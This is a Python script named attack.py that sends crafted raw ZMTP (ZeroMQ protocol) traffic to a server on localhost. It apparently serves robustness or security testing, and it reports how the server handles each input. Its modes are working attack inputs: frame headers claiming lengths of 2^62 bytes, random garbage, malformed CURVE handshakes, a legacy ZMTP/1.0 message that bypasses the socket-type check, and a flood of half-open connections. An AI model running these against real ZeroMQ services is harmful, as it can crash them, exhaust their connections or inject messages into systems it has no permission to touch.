"""Raw-socket ZMTP attacks (no zmq). Usage: attack.py MODE PORT
MODE: bigframe | bigframe4g | garbage | curvebig | nullvscurve | halfopen N"""
import os, socket, struct, sys, time

def greeting(mech=b"NULL", as_server=0):
    return (b"\xff" + b"\x00" * 8 + b"\x7f" + bytes([3, 0]) + mech.ljust(20, b"\x00")
            + bytes([as_server]) + b"\x00" * 31)

def command(name, body=b""):
    payload = bytes([len(name)]) + name + body
    return bytes([0x04, len(payload)]) + payload   # short command frame

def prop(name, value):
    return bytes([len(name)]) + name + struct.pack(">I", len(value)) + value

def outcome(s, t=3.0):
    """Read until the server closes; report what happened."""
    s.settimeout(t); got = 0; t0 = time.time()
    try:
        while True:
            d = s.recv(65536)
            if not d:
                return f"server closed the connection (EOF) after {time.time()-t0:.3f}s, {got} bytes read"
            got += len(d)
    except socket.timeout:
        return f"still open after {t}s ({got} bytes read)"
    except ConnectionResetError:
        return f"connection reset by server after {time.time()-t0:.3f}s ({got} bytes read)"

mode, port = sys.argv[1], int(sys.argv[2])
addr = ("127.0.0.1", port)
if mode in ("bigframe", "bigframe4g"):
    s = socket.create_connection(addr)
    s.sendall(greeting())
    s.sendall(command(b"READY", prop(b"Socket-Type", b"PUSH")))
    size = 2**62 if mode == "bigframe" else 2**32
    s.sendall(bytes([0x02]) + struct.pack(">Q", size) + b"A" * 1024)   # long message frame header
    print(f"[{mode}] sent greeting+READY(PUSH)+frame header len={size}: {outcome(s)}")
elif mode == "garbage":
    s = socket.create_connection(addr)
    s.sendall(os.urandom(64) + os.urandom(4096))
    print(f"[garbage] 4160 random bytes: {outcome(s)}")
elif mode == "curvebig":
    s = socket.create_connection(addr)
    s.sendall(greeting(b"CURVE"))
    s.sendall(bytes([0x06]) + struct.pack(">Q", 2**62) + b"\x05HELLO" + b"B" * 1024)  # long command frame
    print(f"[curvebig] CURVE greeting + long command frame len=2^62: {outcome(s)}")
elif mode == "curvegarbagehello":
    s = socket.create_connection(addr)
    s.sendall(greeting(b"CURVE"))
    s.sendall(command(b"HELLO", os.urandom(194)))   # right size, garbage crypto
    print(f"[curvegarbagehello] CURVE greeting + HELLO with random box: {outcome(s)}")
elif mode == "nullvscurve":
    s = socket.create_connection(addr)
    s.sendall(greeting(b"NULL"))
    s.sendall(command(b"READY", prop(b"Socket-Type", b"PUSH")))
    print(f"[nullvscurve] NULL greeting to CURVE server: {outcome(s)}")
elif mode == "zmtp1":
    # ZMTP/1.0 (no greeting, no socket-type check): [len+1][flags][body] frames; 1st is the identity
    s = socket.create_connection(addr)
    body = b"injected-via-zmtp1.0"
    s.sendall(bytes([1, 0]) + bytes([len(body) + 1, 0]) + body)
    time.sleep(0.5)
    print(f"[zmtp1] sent legacy ZMTP/1.0 identity + 1 message, no greeting")
elif mode == "halfopen":
    n = int(sys.argv[3]); hold = float(sys.argv[4]) if len(sys.argv) > 4 else 6
    socks = []
    for _ in range(n):
        c = socket.create_connection(addr); c.setblocking(False); socks.append(c)
    t0 = time.time(); print(f"[halfopen] {n} connections open, sending nothing", flush=True)
    closed = {}
    while time.time() - t0 < hold:
        for i, c in enumerate(socks):
            if i in closed: continue
            try:
                d = c.recv(4096)
                if d == b"": closed[i] = time.time() - t0
            except BlockingIOError: pass
            except ConnectionResetError: closed[i] = time.time() - t0
        time.sleep(0.05)
    ts = sorted(closed.values())
    if ts:
        print(f"[halfopen] server closed {len(ts)}/{n} within {hold}s; first at {ts[0]:.2f}s, median {ts[len(ts)//2]:.2f}s, last {ts[-1]:.2f}s")
    else:
        print(f"[halfopen] server closed 0/{n} within {hold}s")
